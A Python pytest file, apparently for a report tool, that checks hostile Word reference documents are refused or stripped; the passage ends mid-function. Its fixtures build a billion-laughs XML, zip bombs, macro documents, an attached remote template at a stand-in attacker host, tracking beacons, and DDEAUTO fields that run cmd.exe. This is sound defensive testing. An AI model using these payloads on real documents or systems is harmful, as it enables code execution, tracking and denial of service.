"""`--reference-doc`: every broken or hostile file is refused with a located message (exit 3, no
document written); templates and macro documents are taken for their styles, and nothing of the
reference but its styles, header and footer reaches the QSR.

Fixtures are built here, from templates/reference.docx or with python-docx: no binary blobs.
"""

from __future__ import annotations

import io
import os
import posixpath
import re
import struct
import time
import tracemalloc
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import docx
import pytest
from conftest import EXAMPLE, ROOT, Result
from docx.opc.constants import CONTENT_TYPE as CT
from docx.opc.constants import RELATIONSHIP_TYPE as RT
from docx.opc.packuri import PackURI
from docx.opc.part import Part
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls, qn
from lxml import etree

REFERENCE = ROOT / "templates" / "reference.docx"
W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
LINE = re.compile(r"^(?P<file>.+):(?P<line>\d+):(?P<col>\d+): (?P<field>.+?): error: (?P<msg>.+)$")


# --- helpers -----------------------------------------------------------------------------------


def render(run: Callable[..., Result], reference: Path) -> Result:
    return run("render", EXAMPLE, "-o", "out.docx", "--reference-doc", reference)


def refused(result: Result, reference: Path, field: str, *words: str,
            line: int | None = None, column: int | None = None) -> str:
    """The one located error line about `reference`, checked; no document, no temp file left."""
    assert result.exit_code == 3, result
    found = [m for m in map(LINE.match, result.stderr.splitlines())
             if m and m["file"] == str(reference)]
    assert len(found) == 1, result
    match = found[0]
    assert match["field"] == field, match.group(0)
    for word in words:
        assert word in match["msg"], match.group(0)
    if line is not None:
        assert int(match["line"]) == line, match.group(0)
    if column is not None:
        assert int(match["col"]) == column, match.group(0)
    folder = reference.parent
    assert not (folder / "out.docx").exists()
    assert not [p for p in folder.rglob("*") if p.name.endswith(".tmp")]
    assert "Traceback" not in result.stderr
    return match["msg"]


def rewrite(target: Path, *, replace: dict[str, Callable[[bytes], bytes]] | None = None,
            add: dict[str, bytes] | None = None, drop: tuple[str, ...] = ()) -> Path:
    """templates/reference.docx with some parts changed, added or left out."""
    with zipfile.ZipFile(REFERENCE) as source, \
            zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as out:
        for name in source.namelist():
            if name not in drop:
                data = source.read(name)
                out.writestr(name, (replace or {}).get(name, lambda d: d)(data))
        for name, data in (add or {}).items():
            out.writestr(name, data)
    return target


def main_type(content_type: str) -> Callable[[bytes], bytes]:
    return lambda data: data.replace(MAIN.encode(), content_type.encode())


def without_style(*style_ids: str) -> Callable[[bytes], bytes]:
    def change(data: bytes) -> bytes:
        for style_id in style_ids:
            data, count = re.subn(rf'<w:style [^>]*w:styleId="{style_id}".*?</w:style>'.encode(),
                                  b"", data)
            assert count == 1, style_id
        return data
    return change


def everything(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def assert_sound(path: Path) -> None:
    """Opens in python-docx; every XML part parses; every r:* id resolves to a relationship of its
    own part and every internal target exists; every style reference names a style of its type."""
    docx.Document(str(path))
    parts = everything(path)
    trees = {name: etree.fromstring(data) for name, data in parts.items()
             if name.endswith((".xml", ".rels"))}
    for name in trees:
        if name.endswith(".rels") or name == "[Content_Types].xml":
            continue
        folder, _, base = name.rpartition("/")
        rels = trees.get(posixpath.join(folder, "_rels", f"{base}.rels"))
        ids = set()
        for rel in rels if rels is not None else []:
            ids.add(rel.get("Id"))
            if rel.get("TargetMode") != "External":
                target = rel.get("Target")
                full = target[1:] if target.startswith("/") else posixpath.normpath(
                    posixpath.join(folder, target))
                assert full in parts, (name, target)
        for value in trees[name].xpath("//@*[namespace-uri()=$r]", r=R_NS):
            assert str(value) in ids, (name, value.attrname, str(value))
    styles = {s.get(f"{{{W_NS}}}styleId"): s.get(f"{{{W_NS}}}type")
              for s in trees["word/styles.xml"].iter(f"{{{W_NS}}}style")}
    defaults = [s.get(f"{{{W_NS}}}type") for s in trees["word/styles.xml"].iter(f"{{{W_NS}}}style")
                if s.get(f"{{{W_NS}}}default") == "1"]
    assert len(defaults) == len(set(defaults)), defaults  # one default style per type
    for name, tree in trees.items():
        for tag, kind in (("pStyle", "paragraph"), ("rStyle", "character"), ("tblStyle", "table")):
            for element in tree.iter(f"{{{W_NS}}}{tag}"):
                assert styles.get(element.get(f"{{{W_NS}}}val")) == kind, (name, tag)


def written(result: Result, folder: Path) -> Path:
    assert result.exit_code == 0, result
    out = folder / "out.docx"
    assert_sound(out)
    return out


def png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(
            ">I", zlib.crc32(kind + data))
    pixels = zlib.compress(b"\x00\xff\x00\x00" * 1)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", pixels) + chunk(b"IEND", b""))


# --- files that are not a usable .docx -----------------------------------------------------------


def test_empty_file(run, in_tmp: Path) -> None:
    reference = in_tmp / "ref.docx"
    reference.write_bytes(b"")
    refused(render(run, reference), reference, "(file)", "is empty (0 bytes)", line=0, column=0)


@pytest.mark.parametrize(("content", "words"), [
    (b"Quarterly styles, see attached\n", ("not a Word .docx file", "plain text")),
    (b"{\\rtf1\\ansi Hello}", ("not a Word .docx file", "RTF")),
    (b"%PDF-1.7\n\x00\x01\x02", ("not a Word .docx file", "PDF")),
])
def test_not_a_docx(run, in_tmp: Path, content: bytes, words: tuple[str, ...]) -> None:
    reference = in_tmp / "ref.docx"
    reference.write_bytes(content)
    refused(render(run, reference), reference, "(file)", *words, "save it from Word as .docx")


def test_cut_short(run, in_tmp: Path) -> None:
    reference = in_tmp / "ref.docx"
    whole = io.BytesIO()
    docx.Document().save(whole)
    reference.write_bytes(whole.getvalue()[: len(whole.getvalue()) // 2])
    refused(render(run, reference), reference, "(file)", "cut short", "incomplete download",
            "save or copy it again")


def test_old_word_doc(run, in_tmp: Path) -> None:
    reference = in_tmp / "ref.docx"
    reference.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
                          + "WordDocument".encode("utf-16-le") + bytes(1000))
    refused(render(run, reference), reference, "(file)", "Word 97-2003 .doc",
            "Save As > Word Document (.docx)")


def test_password_protected_docx(run, in_tmp: Path) -> None:
    reference = in_tmp / "ref.docx"  # Word encrypts into an OLE2 file with this stream
    reference.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
                          + "EncryptedPackage".encode("utf-16-le") + bytes(1000))
    refused(render(run, reference), reference, "(file)", "protected with a password",
            "remove the password")


@pytest.mark.parametrize(("kind", "what"), [
    ("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
     "an Excel workbook"),
    ("application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
     "a PowerPoint presentation"),
])
def test_other_office_files(run, in_tmp: Path, kind: str, what: str) -> None:
    reference = rewrite(in_tmp / "ref.docx", replace={"[Content_Types].xml": main_type(kind)})
    refused(render(run, reference), reference, "(file)", f"is {what}, not a Word document")


def test_strict_open_xml(run, in_tmp: Path) -> None:
    strict = b"http://purl.oclc.org/ooxml/officeDocument/relationships/officeDocument"
    reference = rewrite(in_tmp / "ref.docx", replace={"_rels/.rels": lambda d: d.replace(
        f"{R_NS}/officeDocument".encode(), strict)})
    refused(render(run, reference), reference, "(file)", "Strict Open XML", "Save As")


def test_folder_missing_and_pipe_still_located(run, in_tmp: Path) -> None:
    folder = in_tmp / "ref.docx"  # --reference-doc refuses a folder itself (exit 2); the config
    folder.mkdir()                # file's reference_doc reaches qsrkit
    (in_tmp / "qsrkit.yaml").write_text("reference_doc: ref.docx\n", encoding="utf-8")
    result = run("render", EXAMPLE, "-o", "out.docx")
    refused(result, folder, "(file)", "is a folder")
    (in_tmp / "qsrkit.yaml").unlink()
    missing = in_tmp / "nope.docx"
    refused(render(run, missing), missing, "(file)", "not found")
    if hasattr(os, "mkfifo"):
        pipe = in_tmp / "pipe.docx"
        os.mkfifo(pipe)
        refused(render(run, pipe), pipe, "(file)", "not a regular file")


# --- broken XML ----------------------------------------------------------------------------------


@pytest.mark.parametrize(("part", "broken", "line", "column", "words"), [
    ("word/styles.xml", b'<?xml version="1.0"?>\n<w:styles xmlns:w="' + W_NS.encode()
     + b'">\n  <w:style>\n</w:styles>\n', 4, 12, ("Opening and ending tag mismatch",)),
    ("word/_rels/document.xml.rels", b'<?xml version="1.0"?>\n<Relationships>\n<Rel',
     3, 5, ()),
    ("[Content_Types].xml", b"", 1, 1, ("Document is empty",)),
])
def test_broken_xml_names_part_line_and_column(run, in_tmp: Path, part: str, broken: bytes,
                                               line: int, column: int,
                                               words: tuple[str, ...]) -> None:
    reference = rewrite(in_tmp / "ref.docx", replace={part: lambda _: broken})
    message = refused(render(run, reference), reference, part, "is not well-formed XML (", *words,
                      "open the document in Word and save it again", line=line, column=column)
    assert ", line " not in message  # lxml's own position is given as file:line:col instead


def test_doctype_is_refused(run, in_tmp: Path) -> None:
    styles = everything(REFERENCE)["word/styles.xml"].replace(b"?>\n", b"?>\n<!DOCTYPE w:styles>", 1)
    reference = rewrite(in_tmp / "ref.docx", replace={"word/styles.xml": lambda _: styles})
    refused(render(run, reference), reference, "word/styles.xml", "has a DOCTYPE declaration",
            "Word never writes", "save it again", line=2, column=1)


def test_billion_laughs_is_refused_fast(run, in_tmp: Path) -> None:
    laughs = (b'<?xml version="1.0"?>\n<!DOCTYPE w:styles [\n <!ENTITY a "aaaaaaaaaa">\n'
              + b"".join(f' <!ENTITY {c} "{("&" + p + ";") * 10}">\n'.encode()
                         for p, c in zip("abcdefgh", "bcdefghi", strict=True))
              + b']>\n<w:styles xmlns:w="' + W_NS.encode() + b'">&i;</w:styles>\n')
    reference = rewrite(in_tmp / "ref.docx", replace={"word/styles.xml": lambda _: laughs})
    started = time.perf_counter()
    result = render(run, reference)
    assert time.perf_counter() - started < 5
    refused(result, reference, "word/styles.xml", "DOCTYPE", "save it again", line=2, column=1)


# --- sizes ---------------------------------------------------------------------------------------


def raw_zip(members: list[tuple[str, bytes, int, int]]) -> bytes:
    """A zip written by hand: (name, raw deflate data, crc, declared size) per member, so a test
    can declare any size it likes."""
    out, central = bytearray(), bytearray()
    for name, data, crc, size in members:
        encoded = name.encode()
        header = (20, 0, 8, 0, 0x21, crc, len(data), size, len(encoded))
        central += struct.pack("<IH", 0x02014B50, 20) + struct.pack("<HHHHHIIIH", *header) \
            + struct.pack("<HHHHII", 0, 0, 0, 0, 0, len(out)) + encoded
        out += struct.pack("<I", 0x04034B50) + struct.pack("<HHHHHIIIH", *header) \
            + struct.pack("<H", 0) + encoded + data
    count = len(members)
    return bytes(out + central + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count,
                                             len(central), len(out), 0))


def deflated(data: bytes) -> bytes:
    compressor = zlib.compressobj(6, zlib.DEFLATED, -15)
    return compressor.compress(data) + compressor.flush()


BOMB_MB = 200


@pytest.fixture(scope="module")
def bomb_parts() -> tuple[list[tuple[str, bytes, int, int]], int]:
    """templates/reference.docx whose word/styles.xml holds a 200 MB comment of spaces, deflated
    to ~200 KB without ever holding 200 MB: a fully flushed block of 1 MiB of spaces is the same
    bytes every time, so the stream is that block repeated. Returns (members, styles index)."""
    with zipfile.ZipFile(REFERENCE) as source:
        files = {name: source.read(name) for name in source.namelist()}
    styles = files["word/styles.xml"]
    cut = styles.index(b">", styles.index(b"<w:styles")) + 1
    head, tail = styles[:cut] + b"<!--", b"-->" + styles[cut:]
    spaces = b" " * (1 << 20)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = compressor.compress(head) + compressor.flush(zlib.Z_FULL_FLUSH)
    block = compressor.compress(spaces) + compressor.flush(zlib.Z_FULL_FLUSH)
    last = compressor.compress(tail) + compressor.flush()
    assert zlib.decompress(first + block * 2 + last, -15) == head + spaces * 2 + tail
    crc = zlib.crc32(head)
    for _ in range(BOMB_MB):
        crc = zlib.crc32(spaces, crc)
    crc = zlib.crc32(tail, crc)
    members = []
    for name, data in files.items():
        if name == "word/styles.xml":
            size = len(head) + len(tail) + BOMB_MB * len(spaces)
            members.append((name, first + block * BOMB_MB + last, crc, size))
        else:
            members.append((name, deflated(data), zlib.crc32(data), len(data)))
    return members, list(files).index("word/styles.xml")


def refused_cheaply(run: Callable[..., Result], reference: Path) -> Result:
    empty = reference.with_name("empty.docx")
    empty.write_bytes(b"")
    assert render(run, empty).exit_code == 3  # imports everything a render needs, untraced
    tracemalloc.start()
    started = time.perf_counter()
    try:
        result = render(run, reference)
    finally:
        elapsed = time.perf_counter() - started
        peak = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
    assert elapsed < 3, elapsed
    assert peak < 8 * 2**20, peak  # the bomb unpacks to 200 MB; nothing near that is held
    return result


def test_zip_bomb_is_refused_by_its_declared_size(run, in_tmp: Path, bomb_parts) -> None:
    members, _ = bomb_parts
    reference = in_tmp / "bomb.docx"
    reference.write_bytes(raw_zip(members))
    assert reference.stat().st_size < 1 << 20
    result = refused_cheaply(run, reference)
    refused(result, reference, "(file)", "unpacks to 200", "MB, more than a reference document "
            "ever needs (limit 64 MB)")


def test_zip_bomb_that_lies_about_its_size_is_never_inflated(run, in_tmp: Path,
                                                             bomb_parts) -> None:
    members, index = bomb_parts
    name, data, crc, _ = members[index]
    lying = [*members[:index], (name, data, crc, 10_000), *members[index + 1:]]
    reference = in_tmp / "bomb.docx"
    reference.write_bytes(raw_zip(lying))
    result = refused_cheaply(run, reference)
    refused(result, reference, "word/styles.xml", "cannot be unpacked", "damaged",
            "save or copy it again")


def test_bzip2_parts_are_refused(run, in_tmp: Path) -> None:
    """zipfile gives the bzip2 and LZMA decompressors no output limit; Word never uses them."""
    reference = in_tmp / "ref.docx"
    with zipfile.ZipFile(REFERENCE) as source, \
            zipfile.ZipFile(reference, "w", zipfile.ZIP_DEFLATED) as out:
        for name in source.namelist():
            method = zipfile.ZIP_BZIP2 if name == "word/styles.xml" else zipfile.ZIP_DEFLATED
            out.writestr(name, source.read(name), compress_type=method)
    refused(render(run, reference), reference, "word/styles.xml", "compression method Word "
            "never uses (zip method 12)", "save it again")


def test_too_many_parts(run, in_tmp: Path) -> None:
    reference = rewrite(in_tmp / "ref.docx", add={f"extra/{n}.bin": b"" for n in range(2001)})
    count = len(zipfile.ZipFile(REFERENCE).namelist()) + 2001
    refused(render(run, reference), reference, "(file)", f"has {count:,} files packed inside",
            "limit 2,000")


def test_huge_zip_directory_is_refused_before_zipfile_reads_it(run, in_tmp: Path) -> None:
    """50,000 tiny entries while the end record declares one: zipfile would build them all."""
    entry = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 0, 0, 0x21, 0, 0, 0, 1, 0,
                        0, 0, 0, 0, 0) + b"a"
    directory = entry * 50_000
    reference = in_tmp / "ref.docx"
    reference.write_bytes(directory + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1,
                                                  len(directory), 0, 0))
    started = time.perf_counter()
    result = render(run, reference)
    assert time.perf_counter() - started < 2
    refused(result, reference, "(file)", "more files packed inside than a Word document ever has",
            "limit 2,000")


def test_too_big_on_disk_is_refused_before_reading(run, in_tmp: Path) -> None:
    reference = in_tmp / "ref.docx"
    with reference.open("wb") as handle:
        handle.truncate(33 * 2**20)  # sparse: nothing written, nothing read
    refused(render(run, reference), reference, "(file)", "is 33 MB", "limit 32 MB")


# --- accepted: templates and macro documents ------------------------------------------------------

DOTX = "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"
DOCM = "application/vnd.ms-word.document.macroEnabled.main+xml"
DOTM = "application/vnd.ms-word.template.macroEnabledTemplate.main+xml"


def with_macros(data: bytes) -> bytes:
    return data.replace(b"</Types>", b'<Default Extension="bin" ContentType="application/'
                        b'vnd.ms-office.vbaProject"/><Override PartName="/word/vbaData.xml" '
                        b'ContentType="application/vnd.ms-word.vbaData+xml"/></Types>')


@pytest.mark.parametrize(("suffix", "kind"), [(".dotx", DOTX), (".docm", DOCM), (".dotm", DOTM)])
def test_templates_and_macro_documents_give_their_styles(run, in_tmp: Path, suffix: str,
                                                         kind: str) -> None:
    macros = kind != DOTX
    change = main_type(kind)
    replace = {"[Content_Types].xml": (lambda d: with_macros(change(d))) if macros else change}
    add = {}
    if macros:
        replace["word/_rels/document.xml.rels"] = lambda d: d.replace(
            b"</Relationships>", b'<Relationship Id="rId90" Type="http://schemas.microsoft.com/'
            b'office/2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>')
        add = {
            "word/vbaProject.bin": b"MACRO-CODE " * 50,
            "word/_rels/vbaProject.bin.rels": (
                b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
                b'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
                b'microsoft.com/office/2006/relationships/wordVbaData" Target="vbaData.xml"/>'
                b"</Relationships>"),
            "word/vbaData.xml": (
                b'<wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/office/word/2006/'
                b'wordml"><wne:mcds><wne:mcd wne:macroName="PROJECT.NEWMACROS.AUTOOPEN"/>'
                b"</wne:mcds></wne:vbaSuppData>"),
        }
    reference = rewrite(in_tmp / f"ref{suffix}", replace=replace, add=add)
    result = render(run, reference)
    out = written(result, in_tmp)
    assert "warning" not in result.stderr, result
    parts = everything(out)
    types = parts["[Content_Types].xml"].decode()
    assert MAIN in types and "template" not in types and "macroEnabled" not in types
    assert not [name for name in parts if "vba" in name.lower()]
    blob = b"".join(parts.values())
    assert b"MACRO-CODE" not in blob and b"AUTOOPEN" not in blob and b"vbaProject" not in blob
    assert "Section 1 — Previous quarter reflection" in [
        p.text for p in docx.Document(str(out)).paragraphs]


# --- accepted: styles the reference lacks ---------------------------------------------------------


def test_bundled_reference_gives_no_style_warning(run, in_tmp: Path) -> None:
    result = render(run, REFERENCE)
    written(result, in_tmp)
    assert "warning" not in result.stderr, result


def test_one_missing_style_is_named(run, in_tmp: Path) -> None:
    reference = rewrite(in_tmp / "ref.docx", replace={"word/styles.xml": without_style("Quote")})
    result = render(run, reference)
    written(result, in_tmp)
    assert (f'reference document {reference} has no "Quote" style; qsrkit\'s own is used (add '
            "the style in Word to control how it looks)") in result.stderr


def test_missing_styles_are_named_in_one_warning(run, in_tmp: Path) -> None:
    reference = rewrite(in_tmp / "ref.docx", replace={
        "word/styles.xml": without_style("Heading2", "Quote", "Caption", "QsrTable", "VerbatimChar")})
    result = render(run, reference)
    out = written(result, in_tmp)
    stderr = result.stderr
    assert stderr.count("has no") == 1, stderr
    assert (f'reference document {reference} has no "heading 2", "Quote" and "caption" '
            "styles; qsrkit's own are used (add the styles in Word to control how they look)"
            ) in stderr
    # qsrkit's own styles are expected to be missing from a company's file: filled in silently.
    assert "QSR Table" not in stderr and "Verbatim Char" not in stderr
    styles = docx.Document(str(out)).styles
    assert styles["Heading 2"] is not None and styles["QSR Table"] is not None


def test_a_batch_names_missing_styles_once(run, in_tmp: Path) -> None:
    reference = rewrite(in_tmp / "ref.docx", replace={"word/styles.xml": without_style("Quote")})
    for name in ("one", "two", "three"):
        (in_tmp / f"{name}.yaml").write_text(
            EXAMPLE.read_text(encoding="utf-8").replace("Avery Quinn", f"Rep {name}"),
            encoding="utf-8")
    result = run("render", "one.yaml", "two.yaml", "three.yaml", "--out-dir", "out",
                 "--reference-doc", reference)
    assert result.exit_code == 0, result
    assert result.stderr.count('has no "Quote" style') == 1, result.stderr
    assert len(list((in_tmp / "out").glob("*.docx"))) == 3


def test_style_of_the_wrong_type_counts_as_missing(run, in_tmp: Path) -> None:
    reference = rewrite(in_tmp / "ref.docx", replace={"word/styles.xml": lambda d: d.replace(
        b'<w:style w:type="paragraph" w:styleId="Title">',
        b'<w:style w:type="character" w:styleId="Title">')})
    result = render(run, reference)
    out = written(result, in_tmp)  # every pStyle names a paragraph style (assert_sound)
    assert ('has no "Title" style; qsrkit\'s own is used (add the style in Word to control how it '
            'looks); "Title" is a character style there, qsrkit needs a paragraph style'
            ) in result.stderr
    first = docx.Document(str(out)).paragraphs[0]
    assert first.style is not None and first.style.name == "Title (qsrkit)"


def test_added_styles_build_on_a_localized_normal(run, in_tmp: Path) -> None:
    """German Word calls Normal "Standard" (the name stays "Normal"): an added heading is based
    on it rather than on a second default paragraph style."""
    def localize(data: bytes) -> bytes:
        data = without_style("Heading2")(data)
        return data.replace(b'w:styleId="Normal"', b'w:styleId="Standard"').replace(
            b'w:val="Normal"/>', b'w:val="Standard"/>').replace(
            b'<w:name w:val="Standard"/>', b'<w:name w:val="Normal"/>')
    reference = rewrite(in_tmp / "ref.docx", replace={"word/styles.xml": localize})
    result = render(run, reference)
    out = written(result, in_tmp)  # one default style per type (assert_sound)
    assert 'has no "heading 2" style' in result.stderr
    styles = etree.fromstring(everything(out)["word/styles.xml"])
    heading = styles.find(f"{{{W_NS}}}style[@{{{W_NS}}}styleId='Heading2']")
    assert heading.find(f"{{{W_NS}}}basedOn").get(f"{{{W_NS}}}val") == "Standard"
    assert styles.find(f"{{{W_NS}}}style[@{{{W_NS}}}styleId='Normal']") is None


# --- nothing but styles, header and footer reaches the QSR ----------------------------------------


def leaky_reference(path: Path) -> Path:
    """A company reference full of things that must not reach a QSR."""
    document = docx.Document()  # python-docx's template: also a thumbnail and custom XML
    body = document.add_paragraph("SECRET BODY")
    package = document.part.package

    footnotes = Part(PackURI("/word/footnotes.xml"), CT.WML_FOOTNOTES, b"", package)
    link = footnotes.relate_to("https://example.com/footnote-link", RT.HYPERLINK, is_external=True)
    footnotes._blob = (
        f'<w:footnotes {nsdecls("w", "r")}>'
        '<w:footnote w:type="separator" w:id="-1"><w:p><w:r><w:separator/></w:r></w:p>'
        "</w:footnote><w:footnote w:type=\"continuationSeparator\" w:id=\"0\"><w:p><w:r>"
        "<w:continuationSeparator/></w:r></w:p></w:footnote>"
        f'<w:footnote w:id="1"><w:p><w:hyperlink r:id="{link}"><w:r><w:t>SECRET NOTE</w:t>'
        "</w:r></w:hyperlink></w:p></w:footnote></w:footnotes>").encode()
    document.part.relate_to(footnotes, RT.FOOTNOTES)
    body.add_run()._r.append(parse_xml(f'<w:footnoteReference {nsdecls("w")} w:id="1"/>'))

    comments = Part(PackURI("/word/comments.xml"), CT.WML_COMMENTS, (
        f'<w:comments {nsdecls("w")}><w:comment w:id="0" w:author="A"><w:p><w:r>'
        "<w:t>SECRET COMMENT</w:t></w:r></w:p></w:comment></w:comments>").encode(), package)
    document.part.relate_to(comments, RT.COMMENTS)
    glossary = Part(
        PackURI("/word/glossary/document.xml"),
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.glossary+xml",
        f'<w:glossaryDocument {nsdecls("w")}><w:docParts><w:docPart><w:docPartBody><w:p><w:r>'
        "<w:t>SECRET BUILDING BLOCK</w:t></w:r></w:p></w:docPartBody></w:docPart></w:docParts>"
        "</w:glossaryDocument>".encode(), package)
    document.part.relate_to(glossary, RT.GLOSSARY_DOCUMENT)
    printer = Part(PackURI("/word/printerSettings/printerSettings1.bin"),
                   "application/vnd.openxmlformats-officedocument.wordprocessingml.printerSettings",
                   b"SECRET PRINTER", package)
    printer_id = document.part.relate_to(printer, RT.PRINTER_SETTINGS)
    document.sections[0]._sectPr.append(
        parse_xml(f'<w:printerSettings {nsdecls("w", "r")} r:id="{printer_id}"/>'))

    header = document.sections[0].header
    paragraph = header.paragraphs[0]
    paragraph.text = "ACME Corp — confidential "
    tracker = header.part.relate_to("https://example.com/tracker", RT.HYPERLINK, is_external=True)
    paragraph._p.append(parse_xml(
        f'<w:hyperlink {nsdecls("w", "r")} r:id="{tracker}"><w:r><w:t>ACME intranet</w:t></w:r>'
        "</w:hyperlink>"))
    paragraph._p.append(parse_xml(f'<w:r {nsdecls("w")}><w:commentReference w:id="0"/></w:r>'))
    picture = paragraph.add_run()
    picture.add_picture(io.BytesIO(png()))
    blip = picture._r.xpath(".//a:blip")[0]  # a picture Word fetches from the address: a beacon
    del blip.attrib[qn("r:embed")]
    blip.set(qn("r:link"), header.part.relate_to("https://example.com/pixel.png", RT.IMAGE,
                                                 is_external=True))

    settings = document.part._settings_part
    template = settings.relate_to("https://evil.example/t.dotm", f"{R_NS}/attachedTemplate",
                                  is_external=True)
    settings.element.append(parse_xml(
        f'<w:attachedTemplate {nsdecls("w", "r")} r:id="{template}"/>'))

    props = document.core_properties
    props.comments, props.subject, props.keywords = "SECRET META", "SECRET SUBJ", "SECRET KEYS"
    props.category, props.content_status = "SECRET CAT", "SECRET STATUS"
    props.identifier, props.language, props.version = "SECRET ID", "SECRET LANG", "SECRET VER"
    app = next(rel.target_part for rel in package.rels.values()
               if rel.reltype == RT.EXTENDED_PROPERTIES)
    app._blob = (
        b'<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-'
        b'properties"><Company>ACME Corp</Company><Manager>SECRET MANAGER</Manager>'
        b"<HyperlinkBase>https://example.com/base</HyperlinkBase></Properties>")
    custom = Part(PackURI("/docProps/custom.xml"),
                  "application/vnd.openxmlformats-officedocument.custom-properties+xml",
                  b'<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/'
                  b'custom-properties">SECRET CUSTOM</Properties>', package)
    package.relate_to(custom, RT.CUSTOM_PROPERTIES)
    document.save(str(path))
    return path


def test_reference_leaks_nothing_but_its_header(run, in_tmp: Path) -> None:
    reference = leaky_reference(in_tmp / "acme.docx")
    before = b"".join(everything(reference).values())
    for marker in (b"SECRET BODY", b"SECRET NOTE", b"SECRET COMMENT", b"SECRET META",
                   b"SECRET BUILDING BLOCK", b"SECRET MANAGER", b"SECRET CUSTOM",
                   b"example.com/tracker", b"example.com/pixel.png", b"evil.example"):
        assert marker in before, marker  # the fixture really holds them
    out = written(render(run, reference), in_tmp)
    parts = everything(out)
    blob = b"".join(parts.values())
    for marker in (b"SECRET", b"example.com/tracker", b"example.com/pixel",
                   b"example.com/base", b"example.com/footnote", b"evil.example",
                   b"attachedTemplate", b"printerSettings", b"commentReference"):
        assert marker not in blob, marker
    assert not {"docProps/custom.xml", "docProps/thumbnail.jpeg", "word/comments.xml",
                "word/glossary/document.xml"} & set(parts)
    assert not [name for name in parts if name.startswith("customXml/")]
    header = next(etree.fromstring(data) for name, data in parts.items()
                  if name.startswith("word/header"))
    text = "".join(header.itertext())
    assert "ACME Corp — confidential" in text and "ACME intranet" in text
    notes = etree.fromstring(parts["word/footnotes.xml"])
    assert [n.get(f"{{{W_NS}}}type") for n in notes] == ["separator", "continuationSeparator"]
    assert b"<Company>ACME Corp</Company>" in parts["docProps/app.xml"]
    document = docx.Document(str(out))
    assert document.core_properties.title and not document.core_properties.comments


# --- fields Word would run: removed from the header and footer, page numbers kept ----------------


def simple_field(instruction: str, shown: str) -> str:
    return (f'<w:fldSimple w:instr="{instruction}"><w:r><w:t>{shown}</w:t></w:r>'
            "</w:fldSimple>")


def complex_field(*pieces: str, shown: str = "", result: str | None = None,
                  split: bool = True) -> str:
    """A complex field; its instruction `pieces` each in an instrText, one run per piece when
    `split`, else all in one run; `result` is raw run XML shown (default: `shown` as text)."""
    texts = [f'<w:instrText xml:space="preserve">{piece}</w:instrText>' for piece in pieces]
    code = "".join(f"<w:r>{t}</w:r>" for t in texts) if split else f"<w:r>{''.join(texts)}</w:r>"
    shown_runs = result if result is not None else f"<w:r><w:t>{shown}</w:t></w:r>"
    return ('<w:r><w:fldChar w:fldCharType="begin"/></w:r>' + code
            + '<w:r><w:fldChar w:fldCharType="separate"/></w:r>' + shown_runs
            + '<w:r><w:fldChar w:fldCharType="end"/></w:r>')


PICTURE_RESULT = ('<w:r><w:drawing><wp:inline><wp:extent cx="9525" cy="9525"/>'
                  '<wp:docPr id="7" name="beacon"/></wp:inline></w:drawing></w:r>')
HOSTILE = {  # the fields, in both forms, that a reference's header and footer may not keep
    "INCLUDEPICTURE": 'INCLUDEPICTURE &quot;http://evil.example/beacon.png&quot; \\d',
    "INCLUDETEXT": 'INCLUDETEXT &quot;http://evil.example/text.docx&quot;',
    "HYPERLINK": 'HYPERLINK &quot;http://evil.example/link&quot;',
    "DDEAUTO": 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc.exe&quot;',
    "DDE": 'DDE &quot;c:\\\\windows\\\\system32\\\\cmd.exe&quot; &quot;/c calc&quot;',
}


def field_reference(path: Path) -> Path:
    """A reference whose header and footer hold every hostile field in both forms (split over
    runs and instrText elements, nested, built from another field) beside PAGE and NUMPAGES."""
    document = docx.Document()
    section = document.sections[0]
    header = ["<w:r><w:t xml:space=\"preserve\">ACME header </w:t></w:r>"]
    for index, (name, instruction) in enumerate(HOSTILE.items()):
        header.append(simple_field(instruction, f"simple-{index}"))
        middle = len(name) // 2  # the name itself split between two instrText elements
        header.append(complex_field(" " + instruction[:middle], instruction[middle:] + " ",
                                    shown=f"complex-{index}", split=index % 2 == 0))
    header.append(complex_field(" INCLUDEPICTURE &quot;http://evil.example/pixel.png&quot; ",
                                result=PICTURE_RESULT))
    # IF is not on the list, and holds INCLUDETEXT in its shown result: all of it goes.
    header.append(complex_field(' IF 1 = 1 "', shown="nested-shown", result=(
        "<w:r><w:t>nested-shown</w:t></w:r>"
        + complex_field(" INCLUDETEXT &quot;http://evil.example/nested&quot; ", shown="inner"))))
    # A field whose name comes from another field's result: Word would run what QUOTE spells.
    header.append('<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
                  + complex_field(' QUOTE "INCLUDE" ', shown="INCLUDE")
                  + '<w:r><w:instrText>PICTURE "http://evil.example/built.png"</w:instrText></w:r>'
